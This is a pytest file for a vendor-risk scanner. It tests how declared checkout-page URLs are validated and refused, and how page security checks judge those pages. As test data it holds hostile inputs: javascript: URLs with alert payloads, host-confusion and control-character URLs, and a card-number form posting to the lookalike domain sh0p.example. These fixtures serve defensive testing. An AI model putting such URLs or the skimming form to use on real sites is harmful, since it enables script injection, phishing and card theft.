"""What may be declared as a check-out page, and what a declared page does to the outcomes."""

import json
import time
from dataclasses import replace

import pytest
from pydantic import ValidationError

from tests.checks.healthy import gone, http, leads, observations, page
from vendor_risk.checks.base import CATALOGUE
from vendor_risk.checks.checkout import checkout_pages
from vendor_risk.checks.declared import (
    LENGTH,
    MOST,
    MOST_OF_ONE_HOST,
    DeclarationRefused,
    as_typed,
    pages_of,
)
from vendor_risk.checks.observations import OBSERVATIONS, Failure
from vendor_risk.checks.questions import requests
from vendor_risk.checks.remembered import remembered
from vendor_risk.checks.web_facts import pages_read
from vendor_risk.evidence import Severity, Status

HOST, SAFE, TILL = "shop.example", "https://shop.example/", "https://shop.example/till"
TEXT = (("Content-Type", "application/json"),)
PAGE_CHECKS = (
    *("web.form.target", "web.js.outdated", "web.mixed"),
    *("web.script.changed", "web.script.sri", "web.script.third"),
)
FAULTS = (
    "<script src=http://cdn.other.example/track.js></script>"
    "<form action=https://sh0p.example/collect method=post>"
    "<input name=card_number autocomplete=cc-number></form>"
)


def look(*pages, declared=(TILL,)):
    """A healthy host with these pages beside its own, and these declared."""
    return observations(http=http(*http().responses, *pages), declared=declared)


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("/checkout", f"{SAFE}checkout"),
        ("  /checkout?step=1#form  ", f"{SAFE}checkout?step=1"),
        ("https://shop.example/a", f"{SAFE}a"),
        ("HTTPS://Shop.Example:443/A", f"{SAFE}A"),
        ("https://pay.shop.example", "https://pay.shop.example/"),
        ("//pay.shop.example/x", "https://pay.shop.example/x"),
        ("/größe", f"{SAFE}gr%C3%B6%C3%9Fe"),
        ("/a%20b", f"{SAFE}a%20b"),
        ("https://bücher.shop.example/kasse", "https://xn--bcher-kva.shop.example/kasse"),
    ],
)
def test_a_line_names_a_page(line, expected):
    """A path is completed with the host, and all is written in one form."""
    assert pages_of([line], HOST) == (expected,)


def test_a_name_that_is_not_ascii_is_its_own():
    """The host as people write it and as the DNS does are the same."""
    host = "xn--bcher-kva.example"

    assert pages_of(["https://bücher.example/kasse", "/kasse"], host) == (f"https://{host}/kasse",)


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ("http://shop.example/checkout", "is not encrypted"),
        ("javascript:alert(1)", "is no page: begin with /"),
        ("javascript://shop.example/%0aalert(1)", "give one that begins with https://"),
        ("data:text/html,x", "is no page: begin with /"),
        ("checkout", "is no page: begin with / for a page of shop.example"),
        ("ftp://shop.example/x", "give one that begins with https://"),
        ("https://other.example/checkout", "lies outside of shop.example"),
        ("https://shop.example.evil.example/", "lies outside of shop.example"),
        ("https://notshop.example/", "lies outside of shop.example"),
        ("https://shop.example@evil.example/", "what stands before @"),
        ("https://user:secret@shop.example/", "what stands before @"),
        ("https://shop.example:8443/", "names port 8443"),
        ("https://shop.example:x/", "is no address of a page"),
        ("https:///checkout", "is no address of a page"),
        ("https://[::1/", "is no address of a page"),
        ("https://127.0.0.1/", "lies outside of shop.example"),
        ("/\\evil.example", "a sign that no address has"),
        ("/check out", "a sign that no address has"),
        ("/a\0b", "a sign that no address has"),
        ("/a\tb", "a sign that no address has"),
        ("/a\u202eb", "a sign that no address has"),
        ("/#/checkout", "is made by scripts"),
        ("/#!checkout", "is made by scripts"),
        ("/" + "x" * 3000, f"at most {LENGTH}"),
        ("/" + "ö" * 400, f"at most {LENGTH}"),
    ],
)
def test_what_is_no_page_of_the_vendor_is_refused(line, words):
    """In one sentence that says how to mend it and repeats no endless text."""
    with pytest.raises(DeclarationRefused) as refusal:
        pages_of(["/fine", line], HOST)

    assert words in refusal.value.message
    assert len(refusal.value.message) < 300
    assert refusal.value.message.isprintable()


def test_empty_lines_and_pages_named_twice_are_left_out():
    """Whatever they were written like."""
    lines = ["/a", "", "  ", "https://shop.example/a", "/a#top", "/b"]

    assert pages_of(lines, HOST) == (f"{SAFE}a", f"{SAFE}b")


def test_a_few_pages_can_be_declared():
    """More would be more requests than a visitor makes."""
    four = [f"/{number}" for number in range(MOST_OF_ONE_HOST)]
    pages = [*four, "https://pay.shop.example/"]

    assert len(pages_of(pages, HOST)) == MOST
    with pytest.raises(DeclarationRefused, match=f"at most {MOST_OF_ONE_HOST} pages"):
        pages_of([*four, "/more"], HOST)
    with pytest.raises(DeclarationRefused, match=f"name the {MOST} that matter most"):
        pages_of([*pages, "/more"], HOST)


def test_a_page_is_shown_as_it_can_be_typed():
    """The path alone for the host's own, so that what is shown can be sent back."""
    pages = pages_of(["/a?b=c", "/", "https://pay.shop.example/"], HOST)

    assert [as_typed(each, HOST) for each in pages] == ["/a?b=c", "/", "https://pay.shop.example/"]
    assert pages_of([as_typed(each, HOST) for each in pages], HOST) == pages


def test_hostile_lines_take_no_time():
    """A megabyte in one line is measured and refused."""
    started = time.perf_counter()

    with pytest.raises(DeclarationRefused):
        pages_of(["//" + "a." * 500_000], HOST)

    assert time.perf_counter() - started < 0.5


@pytest.mark.parametrize(
    ("declared", "words"),
    [
        ([f"{SAFE}{number}" for number in range(MOST + 1)], "at most 5 pages can be declared"),
        ([SAFE + "x" * LENGTH], "at most 2000 characters"),
        (["http://shop.example/checkout"], "is no whole https address"),
        (["/checkout"], "is no whole https address"),
        (["javascript:alert(1)"], "is no whole https address"),
        (["https://shop.example/\u0000"], "is no whole https address"),
    ],
)
def test_a_stored_look_declares_pages_alone(declared, words):
    """What is none is refused by name, since nobody could be asked for it."""
    stored = {"domain": HOST, "observed_at": "2026-11-22T12:00:00Z", "declared": declared}

    with pytest.raises(ValidationError, match=words) as refusal:
        OBSERVATIONS.validate_json(json.dumps(stored))

    assert refusal.value.errors()[0]["loc"] == ("declared",)


def test_declared_pages_go_to_json_and_back_and_may_be_left_out():
    """Looks of before had none."""
    seen = look(page(TILL))
    before = json.loads(OBSERVATIONS.dump_json(seen))
    del before["declared"]

    assert OBSERVATIONS.validate_json(OBSERVATIONS.dump_json(seen)) == seen
    assert OBSERVATIONS.validate_json(json.dumps(before)) == replace(seen, declared=())


def asked(*declared, body="Shop", **changes):
    """The pages that a front page and declarations lead to."""
    seen = observations(http=http(page(body=body, **changes)), declared=declared)
    return [each.url for each in checkout_pages(seen.http, seen)]


def test_declared_pages_come_first_and_links_fill_up():
    """To three in all, or as many as were declared."""
    links = "<a href=/checkout>a</a><a href=/cart>b</a><a href=/login>c</a>"
    many = [f"{SAFE}{number}" for number in range(4)]

    assert asked(TILL, body=links) == [TILL, f"{SAFE}checkout", f"{SAFE}cart"]
    assert asked(f"{SAFE}cart", body=links)[0] == f"{SAFE}cart"
    assert len(asked(f"{SAFE}cart", body=links)) == 3
    assert asked(*many, body=links) == many


def test_declared_pages_are_asked_for_behind_a_wall():
    """Whatever became of the front page."""
    assert asked(TILL, status=403) == [TILL]


@pytest.mark.parametrize(
    "strange",
    ["https://other.example/", "http://shop.example/x", "https://shop.example:8443/", "nonsense"],
)
def test_what_is_not_the_vendors_is_never_asked_for(strange):
    """Whoever wrote it into an observation."""
    assert asked(strange, TILL) == [TILL]


def test_one_host_is_asked_for_at_most_eight_pages():
    """The front page three times, security.txt, and four that were declared."""
    many = tuple(f"{SAFE}{number}" for number in range(5))
    fronts = http(leads("http://shop.example/", SAFE), page())

    more = requests(observations(http=fronts, declared=many))

    assert len(fronts.responses) + len(more) == 8
    assert len([each for each in more if each.url in many]) == MOST_OF_ONE_HOST


def outcomes(seen):
    """What the checks of pages say."""
    return {id: CATALOGUE[id](seen) for id in PAGE_CHECKS}


def test_a_declared_page_that_was_seen_is_judged_as_any_other():
    """A clean one passes."""
    said = outcomes(look(page(TILL, body="<script src=/jquery-3.7.1.min.js></script>")))

    statuses = {id: each.status for id, each in said.items()}
    assert statuses == dict.fromkeys(PAGE_CHECKS, Status.PASSED)


def test_the_faults_of_a_declared_page_are_found():
    """A script over http and a form to a name that looks alike."""
    said = outcomes(look(page(TILL, body=FAULTS)))

    failed = {id for id, each in said.items() if each.status is Status.FAILED}
    assert failed == {"web.form.target", "web.mixed", "web.script.sri", "web.script.third"}
    assert said["web.form.target"].severity is Severity.CRITICAL


@pytest.mark.parametrize(
    ("pages", "why"),
    [
        ((), "this look did not ask for it"),
        ((gone(TILL, "timed out after 10 s", Failure.TIMEOUT),), "timed out after 10 s"),
        ((page(TILL, status=403),), "the server refused the visit (HTTP 403)"),
        ((page(TILL, status=404),), "it is no page (HTTP 404)"),
        ((page(TILL, status=500),), "the server failed (HTTP 500)"),
        ((page(TILL, headers=(("cf-mitigated", "challenge"),)),), "challenge for bots"),
        ((page(TILL, headers=TEXT),), "it is no page (HTTP 200)"),
        ((leads(TILL, SAFE, 302),), "it leads to the front page"),
        ((leads(TILL, TILL, 302),), "its redirects lead to no page"),
        (
            (leads(TILL, "https://pay.example/", 302), page("https://pay.example/")),
            "it leads to pay.example",
        ),
    ],
)
def test_a_declared_page_that_was_not_seen_keeps_from_passing(pages, why):
    """Each check names it, and so does the fact."""
    seen = look(*pages)

    said = outcomes(seen)

    assert {each.status for each in said.values()} == {Status.UNKNOWN}
    assert all(TILL in each.reason and why in each.reason for each in said.values())
    assert (
        [each for each in pages_read(seen).values if TILL in each and why in each]
        == [
            each
            for each in pages_read(seen).values
            if each.startswith(f"{TILL}: declared, not seen, ")
        ]
        != []
    )


def test_a_fault_beside_an_unseen_declared_page_is_a_fault():
    """What was seen does not become better by what was not."""
    seen = observations(http=http(page(body=FAULTS)), declared=(TILL,))

    assert outcomes(seen)["web.script.third"].status is Status.FAILED


@pytest.mark.parametrize(
    ("front", "status"),
    [
        (page(status=403), Status.UNKNOWN),
        (page(headers=TEXT, body="{}"), Status.PASSED),
        (leads(SAFE, "https://elsewhere.example/"), Status.PASSED),
    ],
)
def test_a_declared_page_is_judged_without_a_front_page(front, status):
    """It passes where there is no front page, and not where one was not seen."""
    beside = page("https://elsewhere.example/")
    clean = observations(http=http(front, beside, page(TILL)), declared=(TILL,))
    faulty = observations(http=http(front, beside, page(TILL, body=FAULTS)), declared=(TILL,))

    assert CATALOGUE["web.mixed"](clean).status is status
    assert CATALOGUE["web.mixed"](faulty).status is Status.FAILED


def test_no_page_at_all_where_one_was_declared_is_unknown():
    """A host of an interface has nothing to judge, unless somebody said where its page is."""
    nothing = http(page(headers=TEXT, body="{}"), page(TILL, status=404))

    assert CATALOGUE["web.mixed"](observations(http=nothing)).status is Status.NOT_APPLICABLE
    said = CATALOGUE["web.mixed"](observations(http=nothing, declared=(TILL,)))
    assert (said.status, "No declared page could be seen" in said.reason) == (Status.UNKNOWN, True)


@pytest.mark.parametrize(
    ("answer", "status"),
    [
        (page(TILL), Status.PASSED),
        (page(f"{SAFE}checkout", status=403), Status.UNKNOWN),
        (gone(f"{SAFE}checkout", "timed out", Failure.TIMEOUT), Status.UNKNOWN),
        (page(f"{SAFE}checkout", status=404), Status.PASSED),
    ],
)
def test_a_linked_page_behind_a_wall_keeps_from_passing(answer, status):
    """A dead link hides nothing, and what was never asked for is no failure of the host."""
    seen = observations(http=http(page(body="<a href=/checkout>Pay</a>"), answer))

    assert CATALOGUE["web.mixed"](seen).status is status


def test_the_fact_says_which_pages_were_declared():
    """And as what, where they lead on."""
    seen = look(
        page(TILL, body="<input name=cvv>"),
        leads(f"{SAFE}a", f"{SAFE}b", 302),
        page(f"{SAFE}b"),
        declared=(TILL, f"{SAFE}a", f"{SAFE}gone"),
    )

    assert pages_read(seen).values[1:] == (
        f"{TILL}: declared, asks for a card",
        f"{SAFE}b: declared, asks for a password, reached by {SAFE}a",
        f"{SAFE}gone: declared, not seen, this look did not ask for it",
    )


def test_a_long_address_hides_nothing_that_is_said_of_it():
    """It is cut, not what comes after it."""
    long = f"{SAFE}{'x' * 1900}"

    told = pages_read(look(page(long, body="<input name=cvv>"), declared=(long,))).values[1]

    assert told.endswith(": declared, asks for a card")


def test_what_a_declared_page_runs_is_remembered_for_the_next_look():
    """So that a script that comes later is seen."""
    script = "<script src=https://js.other.example/a.js></script><input name=cvv>"
    before = remembered(look(page(TILL)))

    after = replace(look(page(TILL, body=script)), previous=before)

    assert CATALOGUE["web.script.changed"](after).status is Status.FAILED


def test_pages_that_differ_by_their_query_alone_are_remembered_together():
    """Shops that show every page at /index.php run other scripts on each."""
    script = "<script src=https://js.other.example/a.js></script>"
    cart, login = f"{SAFE}index.php?route=cart", f"{SAFE}index.php?route=login"
    seen = look(page(cart), page(login, body=script), declared=(cart, login))

    again = replace(seen, previous=remembered(seen))

    assert CATALOGUE["web.script.changed"](again).status is Status.PASSED
